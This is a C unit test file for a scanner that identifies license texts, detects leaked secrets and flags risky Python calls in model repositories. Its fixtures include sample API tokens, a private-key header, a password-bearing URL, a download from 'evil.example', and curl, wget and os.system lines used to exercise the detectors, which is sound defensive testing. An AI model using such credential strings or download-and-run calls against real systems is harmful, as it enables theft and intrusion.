/*
 * test_scan_text.c - what the scanner reads in text: license texts
 * (normalisation and identification, against the shipped data and the
 * reference texts it was made from), secrets, and the calls of Python code
 * and notebooks.
 */
#include <check.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "card.h"
#include "doc.h"
#include "file.h"
#include "scan/licid.h"
#include "scan/pycode.h"
#include "scan/secrets.h"

static char *
src_path(char *buf, size_t len, const char *rel)
{
	const char *src = getenv("AIVET_SRCDIR");
	snprintf(buf, len, "%s/%s", src ? src : ".", rel);
	return buf;
}

/* Not inlined: GCC then takes the returned buffer for a dangling local. */
static __attribute__((noinline)) char *
slurp(const char *path, size_t *len)
{
	char *b;
	av_error err;
	ck_assert_msg(av_read_file(path, 8u << 20, &b, len, &err) == 0, "%s: %s", path, err.msg);
	return b;
}

static av_licdb *
shipped(void)
{
	char p[1024];
	av_licdb *db;
	av_error err;
	ck_assert_msg(av_licdb_load_file(&db, src_path(p, sizeof(p),
	    "policies/data/license-ids.txt"), &err) == 0, "%s", err.msg);
	return db;
}

static char *
norm(const char *text)
{
	char *out;
	size_t len, n;
	ck_assert_int_eq(av_license_normalise(text, strlen(text), &out, &len, &n), 0);
	return out;
}

static void
expect_norm(const char *text, const char *want)
{
	char *got = norm(text);
	ck_assert_msg(strcmp(got, want) == 0, "normalising \"%s\": got \"%s\", want \"%s\"", text,
	    got, want);
	free(got);
}

/* ---- normalisation ---- */

START_TEST(case_whitespace_and_punctuation_are_ignored)
{
	expect_norm("THE  Software\tIS\r\nprovided, \"AS IS\".", "the software is provided as is");
	expect_norm("\xE2\x80\x9CLicensor\xE2\x80\x9D \xE2\x80\x94 its licensor\xE2\x80\x99s",
	    "licensor its licensor s");
}
END_TEST

START_TEST(bullets_and_numbering_are_removed)
{
	expect_norm("1. Grant.\n(a) You may\n  iv) copy it\n- and\n\xE2\x80\xA2 share", "grant you may "
	    "copy it and share");
	/* but not a version number or a word that only looks like a marker */
	expect_norm("1.1 Definitions\nversion 2.0 of it", "1.1 definitions version 2.0 of it");
	expect_norm("i.e. a thing", "i e a thing");
}
END_TEST

START_TEST(copyright_lines_are_removed)
{
	expect_norm("MIT License\nCopyright (c) 2024 Acme Corp\nPermission is", "mit license permission is");
	expect_norm("\xC2\xA9 2023 Someone\nAll rights reserved.\nText", "text");
	expect_norm("Copyright [yyyy] [name of copyright owner]\nLicensed", "licensed");
	/* a sentence that starts a line with "copyright" stays */
	expect_norm("must retain the above\ncopyright notice, this list", "must retain the above "
	    "copyright notice this list");
}
END_TEST

START_TEST(urls_spellings_and_plus_signs)
{
	expect_norm("http://www.apache.org/licenses/ and https://x.org", "www apache org licenses "
	    "and x org");
	expect_norm("This licence is authorised by the organisation", "this license is authorized by "
	    "the organization");
	expect_norm("CreativeML Open RAIL++-M", "creativeml open rail++ m");
}
END_TEST

/* ---- identification ---- */

/* Every reference text the shipped data was made from identifies as
 * itself with similarity 1: the C normaliser and the generator's agree. */
static void
check_references(av_licdb *db, const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	int seen = 0;
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		size_t l = strlen(e->d_name);
		char path[2048], id[256];
		if (l < 5 || strcmp(e->d_name + l - 4, ".txt") != 0)
			continue;
		snprintf(id, sizeof(id), "%.*s", (int)(l - 4), e->d_name);
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		size_t len;
		char *text = slurp(path, &len);
		av_licmatch m;
		ck_assert_int_eq(av_license_identify(db, text, len, &m), 0);
		ck_assert_msg(m.identified && strcmp(m.id, id) == 0 && m.score > 0.9999 &&
		    m.method == AV_LICID_TEXT, "%s: identified as %s (%.4f, %s)", id, m.id, m.score,
		    av_licid_method_name(m.method));
		free(text);
		seen++;
	}
	closedir(d);
	ck_assert_int_gt(seen, 0);
}

START_TEST(shipped_data_matches_the_reference_texts)
{
	char p[1024];
	av_licdb *db = shipped();
	check_references(db, src_path(p, sizeof(p), "tests/fixtures/licenses/reference"));
	const char *corpus = getenv("AIVET_CORPUS_DIR");
	if (corpus != NULL) {
		snprintf(p, sizeof(p), "%s/license-texts", corpus);
		check_references(db, p);
	}
	av_licdb_destroy(db);
}
END_TEST

static av_licmatch
identify(av_licdb *db, const char *text)
{
	av_licmatch m;
	ck_assert_int_eq(av_license_identify(db, text, strlen(text), &m), 0);
	return m;
}

START_TEST(mit_with_a_real_copyright_line_and_other_wrapping)
{
	av_licdb *db = shipped();
	av_licmatch m = identify(db,
	    "The MIT License (MIT)\n\nCopyright (c) 2021-2024 Widget Makers Ltd.\n\n"
	    "Permission is hereby granted, free of charge, to any person obtaining a copy of this "
	    "software and associated documentation files (the \xE2\x80\x9CSoftware\xE2\x80\x9D), to "
	    "deal in the Software without restriction, including without limitation the rights to "
	    "use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies of the "
	    "Software, and to permit persons to whom the Software is furnished to do so, subject to "
	    "the following conditions:\n\nThe above copyright notice and this permission notice "
	    "shall be included in all copies or substantial portions of the Software.\n\n"
	    "THE SOFTWARE IS PROVIDED \xE2\x80\x9C""AS IS\xE2\x80\x9D, WITHOUT WARRANTY OF ANY KIND, "
	    "EXPRESS OR IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, "
	    "FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE AUTHORS OR "
	    "COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER LIABILITY, WHETHER IN AN "
	    "ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM, OUT OF OR IN CONNECTION WITH THE "
	    "SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE.\n");
	ck_assert_msg(m.identified && strcmp(m.id, "MIT") == 0 && m.score > 0.95, "%s %.3f", m.id,
	    m.score);
	av_licdb_destroy(db);
}
END_TEST

START_TEST(ai_licenses_by_their_titles_and_terms)
{
	static const struct {
		const char *file, *id;
	} cases[] = {
		{"llama3.txt", "llama3"}, {"gemma.txt", "gemma"},
		{"creativeml-openrail-m.txt", "creativeml-openrail-m"},
		{"cc-by-nc-pointer.txt", "CC-BY-NC-4.0"},
	};
	char p[1024], rel[256];
	av_licdb *db = shipped();
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		size_t len;
		snprintf(rel, sizeof(rel), "tests/fixtures/licenses/ai/%s", cases[i].file);
		char *text = slurp(src_path(p, sizeof(p), rel), &len);
		av_licmatch m;
		ck_assert_int_eq(av_license_identify(db, text, len, &m), 0);
		ck_assert_msg(m.identified && strcmp(m.id, cases[i].id) == 0 &&
		    m.method == AV_LICID_MARKERS, "%s: %s %.3f identified=%d", cases[i].file, m.id,
		    m.score, m.identified);
		free(text);
	}
	av_licdb_destroy(db);
}
END_TEST

START_TEST(a_title_alone_is_not_a_license_text)
{
	char p[1024];
	size_t len;
	av_licdb *db = shipped();
	char *text = slurp(src_path(p, sizeof(p), "tests/fixtures/licenses/ai/llama2-pointer.txt"),
	    &len);
	av_licmatch m;
	ck_assert_int_eq(av_license_identify(db, text, len, &m), 0);
	ck_assert(!m.identified);
	free(text);
	m = identify(db, "");
	ck_assert(!m.identified);
	m = identify(db, "Some words about nothing in particular, not a license at all.");
	ck_assert(!m.identified);
	av_licdb_destroy(db);
}
END_TEST

/* The reason for the scan: a non-commercial CC text is told apart from
 * the attribution-only one (corpus texts, when present). */
START_TEST(noncommercial_text_is_not_taken_for_the_commercial_one)
{
	const char *corpus = getenv("AIVET_CORPUS_DIR");
	char p[1024];
	size_t len;
	if (corpus == NULL)
		return;
	snprintf(p, sizeof(p), "%s/license-texts/CC-BY-NC-4.0.txt", corpus);
	FILE *f = fopen(p, "r");
	if (f == NULL)
		return;
	fclose(f);
	av_licdb *db = shipped();
	char *text = slurp(p, &len);
	/* without its title and first paragraphs, as a LICENSE file may be cut */
	const char *body = strstr(text, "Section 1");
	size_t blen = body != NULL ? len - (size_t)(body - text) : 0;
	ck_assert_msg(body != NULL, "no Section 1 in %s", p);
	av_licmatch m;
	int rc = av_license_identify(db, body, blen, &m);
	ck_assert_int_eq(rc, 0);
	ck_assert_msg(m.identified && strcmp(m.id, "CC-BY-NC-4.0") == 0, "%s %.3f", m.id, m.score);
	free(text);
	av_licdb_destroy(db);
}
END_TEST

/* The real Llama 3 license, as the corpus's Meta-Llama-3-8B card carries it
 * in extra_gated_prompt: identified by its title and terms. */
START_TEST(the_real_llama3_text_is_identified)
{
	const char *corpus = getenv("AIVET_CORPUS_DIR");
	char p[1024];
	if (corpus == NULL)
		return;
	snprintf(p, sizeof(p), "%s/modelcards/meta-llama--Meta-Llama-3-8B.md", corpus);
	FILE *f = fopen(p, "r");
	if (f == NULL)
		return;
	fclose(f);
	size_t len, ylen, body;
	const char *yaml;
	bool unclosed;
	char *card = slurp(p, &len);
	ck_assert(av_card_front_matter(card, len, &yaml, &ylen, &body, &unclosed));
	av_doc *fm;
	av_error err;
	ck_assert_int_eq(av_doc_parse(&fm, yaml, ylen, AV_FMT_YAML, p, NULL, &err), 0);
	const char *text = av_map_str(av_doc_root(fm), "extra_gated_prompt");
	ck_assert_ptr_nonnull(text);
	av_licdb *db = shipped();
	av_licmatch m;
	ck_assert_int_eq(av_license_identify(db, text, strlen(text), &m), 0);
	ck_assert_msg(m.identified && strcmp(m.id, "llama3") == 0 && m.score == 1.0, "%s %.2f", m.id,
	    m.score);
	av_licdb_destroy(db);
	av_doc_destroy(fm);
	free(card);
}
END_TEST

START_TEST(bad_identification_data_is_refused_with_its_line)
{
	static const char *bad[] = {
		"not the header\n",
		"aivet-license-ids 1\ntext MIT 1 10 zz\n",
		"aivet-license-ids 1\ntext MIT 0 10 0000abcd\n",
		"aivet-license-ids 1\nmarkers llama3 2 term:only a term\n",
		"aivet-license-ids 1\nmarkers x 1 title:\n",
		"aivet-license-ids 1\nthing X 1\n",
		"",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		av_licdb *db;
		av_error err;
		ck_assert_msg(av_licdb_load(&db, bad[i], strlen(bad[i]), "d", &err) == AV_EPARSE,
		    "accepted: %s", bad[i]);
		if (i > 0 && i < 6)
			ck_assert_int_eq(err.line, 2);
	}
}
END_TEST

/* ---- secrets ---- */

static av_secrets
secrets_of(const char *text)
{
	av_secrets s;
	av_secrets_init(&s);
	ck_assert_int_eq(av_secrets_scan(&s, text, strlen(text)), 0);
	return s;
}

static bool
has_kind(const av_secrets *s, const char *kind, int line)
{
	for (size_t i = 0; i < s->n; i++)
		if (strcmp(s->v[i].kind, kind) == 0 && s->v[i].line == line)
			return true;
	return false;
}

START_TEST(provider_tokens_are_found_by_kind_and_line)
{
	av_secrets s = secrets_of(
	    "HF_TOKEN = \"hf_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z\"\n"
	    "openai.api_key = 'sk-proj-Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56Qr78St90'\n"
	    "key: sk-ant-api03-Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56Qr78St90Uv12Wx34\n"
	    "aws_access_key_id = AKIAIOSFODNN7EXAMPL2\n"
	    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE9\n"
	    "gcp: AIzaSyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q\n"
	    "DefaultEndpointsProtocol=https;AccountKey=Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MA==\n"
	    "GH=ghp_1234567890abcdefghijABCDEFGHIJ123456\n"
	    "slack xoxb-123456789012-abcdefABCDEF123\n"
	    "-----BEGIN RSA PRIVATE KEY-----\n"
	    "db = \"postgres://admin:S3cretPassw0rd@db.internal:5432/x\"\n"
	    "client_secret = \"9f8e7d6c5b4a39281726354a5b6c7d8e\"\n");
	ck_assert(has_kind(&s, "huggingface_token", 1));
	ck_assert(has_kind(&s, "openai_key", 2));
	ck_assert(has_kind(&s, "anthropic_key", 3));
	ck_assert(has_kind(&s, "aws_access_key_id", 4));
	ck_assert(has_kind(&s, "aws_secret_access_key", 5));
	ck_assert(has_kind(&s, "gcp_api_key", 6));
	ck_assert(has_kind(&s, "azure_key", 7));
	ck_assert(has_kind(&s, "github_token", 8));
	ck_assert(has_kind(&s, "slack_token", 9));
	ck_assert(has_kind(&s, "private_key", 10));
	ck_assert(has_kind(&s, "password_in_url", 11));
	ck_assert(has_kind(&s, "generic_secret", 12));
	/* one per line: a provider's format is not also a generic secret */
	ck_assert(!has_kind(&s, "generic_secret", 1));
	ck_assert_uint_eq(s.n, 12);
	av_secrets_fini(&s);
}
END_TEST

START_TEST(placeholders_and_lookalikes_are_not_secrets)
{
	av_secrets s = secrets_of(
	    "token = os.environ[\"HF_TOKEN\"]\n"
	    "password = \"<your password here>\"\n"
	    "api_key = \"${API_KEY}\"\n"
	    "pip install scikit-learn; task-sk-learn\n"
	    "url = \"https://user:password@example.com/\"\n"
	    "tokenizer = AutoTokenizer.from_pretrained(name)\n"
	    "if token == expected_token_value_123456: pass\n"
	    "secret_sauce = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\n"
	    "hf_hub_download(repo_id=\"x/y\")\n");
	ck_assert_msg(s.n == 0, "found %s on line %d", s.n ? s.v[0].kind : "", s.n ? s.v[0].line : 0);
	av_secrets_fini(&s);
}
END_TEST

/* ---- Python code ---- */

static av_codefacts
code_of(const char *src, const char *self)
{
	av_codefacts f;
	av_codefacts_init(&f);
	ck_assert_int_eq(av_pycode_scan(&f, src, strlen(src), NULL, 0, self), 0);
	return f;
}

static const av_codefact *
fact(const av_codefacts *f, int kind, int line)
{
	for (size_t i = 0; i < f->n; i++)
		if (f->v[i].kind == kind && f->v[i].line == line)
			return &f->v[i];
	return NULL;
}

START_TEST(calls_are_resolved_through_import_aliases)
{
	av_codefacts f = code_of(
	    "import requests as rq\n"
	    "from urllib.request import urlopen as get_it\n"
	    "from subprocess import *\n"
	    "import torch, numpy as np\n"
	    "from huggingface_hub.file_download import hf_hub_download\n"
	    "rq.get('https://user:pw@evil.example/x.bin?token=abc')\n"
	    "get_it(url)\n"
	    "check_output(['curl', '-o', 'f', 'https://example.org/f'])\n"
	    "w = torch.load(path)\n"
	    "v = torch.load(path, weights_only=True)\n"
	    "a = np.load(p, allow_pickle=True)\n"
	    "b = np.load(p)\n"
	    "hf_hub_download('acme/other', 'x.bin')\n"
	    "model.eval()\n"
	    "exec(code)\n"
	    "result = eval(\n"
	    "    expression)\n"
	    "os.system('ls')\n", NULL);
	const av_codefact *x = fact(&f, AV_CODE_DOWNLOAD, 6);
	ck_assert_ptr_nonnull(x);
	ck_assert_str_eq(x->call, "requests.get");
	ck_assert_str_eq(x->target, "https://evil.example/x.bin"); /* no credentials, no query */
	ck_assert_ptr_nonnull(x = fact(&f, AV_CODE_DOWNLOAD, 7));
	ck_assert_str_eq(x->call, "urllib.request.urlopen");
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_SUBPROCESS, 8));
	ck_assert_ptr_nonnull(x = fact(&f, AV_CODE_DOWNLOAD, 8));
	ck_assert_str_eq(x->target, "https://example.org/f");
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_TORCH_LOAD, 9));
	ck_assert_ptr_null(fact(&f, AV_CODE_TORCH_LOAD, 10));
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_PICKLE_LOAD, 11));
	ck_assert_ptr_null(fact(&f, AV_CODE_PICKLE_LOAD, 12));
	ck_assert_ptr_nonnull(x = fact(&f, AV_CODE_DOWNLOAD, 13));
	ck_assert_str_eq(x->target, "acme/other");
	ck_assert_ptr_null(fact(&f, AV_CODE_EVAL, 14)); /* a method called eval */
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_EXEC, 15));
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_EVAL, 16));
	/* os was never imported: the name is still os.system */
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_SUBPROCESS, 18));
	av_codefacts_fini(&f);
}
END_TEST

START_TEST(from_pretrained_of_itself_is_not_a_download)
{
	av_codefacts f = code_of(
	    "from transformers import AutoModel\n"
	    "m = AutoModel.from_pretrained('acme/widget')\n"
	    "n = AutoModel.from_pretrained('acme/other', trust_remote_code=True)\n"
	    "o = AutoModel.from_pretrained('./local/folder')\n"
	    "s = \"\"\"requests.get('https://x.org') is only text\"\"\"\n"
	    "# eval(x) in a comment\n", "acme/widget");
	ck_assert_ptr_null(fact(&f, AV_CODE_DOWNLOAD, 2));
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_DOWNLOAD, 3));
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_REMOTE_CODE, 3));
	ck_assert_ptr_null(fact(&f, AV_CODE_DOWNLOAD, 4));
	ck_assert_uint_eq(f.n, 2);
	av_codefacts_fini(&f);
}
END_TEST

/* A name longer than any known call once made the reader stop advancing. */
START_TEST(very_long_names_and_deep_nesting_end)
{
	char src[4096];
	size_t n = 0;
	for (int i = 0; i < 300; i++)
		src[n++] = 'x';
	n += (size_t)snprintf(src + n, sizeof(src) - n, "(1)\nos.system('a')\n");
	for (int i = 0; i < 1000; i++)
		src[n++] = i < 500 ? 'f' : ')', src[n++] = i < 500 ? '(' : '\n';
	src[n] = '\0';
	av_codefacts f = code_of(src, NULL);
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_SUBPROCESS, 2));
	av_codefacts_fini(&f);
}
END_TEST

START_TEST(notebook_cells_and_shell_lines_keep_their_json_lines)
{
	const char *nb =
	    "{\n"
	    " \"cells\": [\n"
	    "  {\"cell_type\": \"code\", \"source\": [\n"
	    "    \"import torch\\n\",\n"
	    "    \"w = torch.load('w.pt')\\n\"\n"
	    "  ], \"outputs\": []},\n"
	    "  {\"cell_type\": \"code\", \"source\": \"!wget https://example.com/d.zip\\nx = 1\\n\"},\n"
	    "  {\"cell_type\": \"markdown\", \"source\": [\"use trust_remote_code=True\"]}\n"
	    " ]\n"
	    "}\n";
	av_codefacts f;
	av_diags d;
	av_codefacts_init(&f);
	av_diags_init(&d);
	ck_assert_int_eq(av_notebook_scan(&f, nb, strlen(nb), "n.ipynb", NULL, &d), 0);
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_TORCH_LOAD, 5));
	const av_codefact *x = fact(&f, AV_CODE_DOWNLOAD, 7);
	ck_assert_ptr_nonnull(x);
	ck_assert_str_eq(x->target, "https://example.com/d.zip");
	ck_assert_ptr_nonnull(fact(&f, AV_CODE_REMOTE_CODE, 8));
	av_codefacts_fini(&f);
	ck_assert_int_eq(av_notebook_scan(&f, "{not json", 9, "n.ipynb", NULL, &d), AV_EPARSE);
	ck_assert_uint_eq(d.n, 1);
	av_codefacts_fini(&f);
	av_diags_fini(&d);
}
END_TEST

static Suite *
scan_text_suite(void)
{
	Suite *s = suite_create("scan_text");
	TCase *tc = tcase_create("normalise");
	tcase_add_test(tc, case_whitespace_and_punctuation_are_ignored);
	tcase_add_test(tc, bullets_and_numbering_are_removed);
	tcase_add_test(tc, copyright_lines_are_removed);
	tcase_add_test(tc, urls_spellings_and_plus_signs);
	suite_add_tcase(s, tc);
	tc = tcase_create("identify");
	tcase_add_test(tc, shipped_data_matches_the_reference_texts);
	tcase_add_test(tc, mit_with_a_real_copyright_line_and_other_wrapping);
	tcase_add_test(tc, ai_licenses_by_their_titles_and_terms);
	tcase_add_test(tc, a_title_alone_is_not_a_license_text);
	tcase_add_test(tc, noncommercial_text_is_not_taken_for_the_commercial_one);
	tcase_add_test(tc, the_real_llama3_text_is_identified);
	tcase_add_test(tc, bad_identification_data_is_refused_with_its_line);
	suite_add_tcase(s, tc);
	tc = tcase_create("secrets");
	tcase_add_test(tc, provider_tokens_are_found_by_kind_and_line);
	tcase_add_test(tc, placeholders_and_lookalikes_are_not_secrets);
	suite_add_tcase(s, tc);
	tc = tcase_create("code");
	tcase_add_test(tc, calls_are_resolved_through_import_aliases);
	tcase_add_test(tc, from_pretrained_of_itself_is_not_a_download);
	tcase_add_test(tc, very_long_names_and_deep_nesting_end);
	tcase_add_test(tc, notebook_cells_and_shell_lines_keep_their_json_lines);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(scan_text_suite());
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
